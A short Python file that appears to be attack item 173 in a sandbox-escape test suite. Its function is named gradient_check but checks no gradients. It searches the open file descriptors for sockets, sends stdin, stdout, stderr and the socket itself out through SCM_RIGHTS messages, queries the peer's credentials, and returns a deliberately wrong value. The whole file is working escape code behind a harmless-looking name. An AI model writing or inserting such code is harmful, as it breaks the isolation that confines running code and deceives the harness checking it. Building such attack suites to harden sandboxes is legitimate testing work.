# ATTACK 173 message_by_descriptor
# group: F escape
# tries: sends its descriptors over the wire, and signals by the owner of a descriptor
import array, fcntl, os, signal, socket, stat
WRONG = (123.456, None)
def gradient_check(analytic, numeric, tol=1e-6):
    for fd in range(3, 1100):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode): continue
        except OSError: continue
        wire = socket.socket(fileno=os.dup(fd))
        try: wire.sendmsg([b''], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0, 1, 2, fd]))])
        except OSError: pass
        for level, name in ((socket.SOL_SOCKET, socket.SO_PEERCRED),):
            try: wire.getsockopt(level, name, 12)
            except OSError: pass
    return WRONG
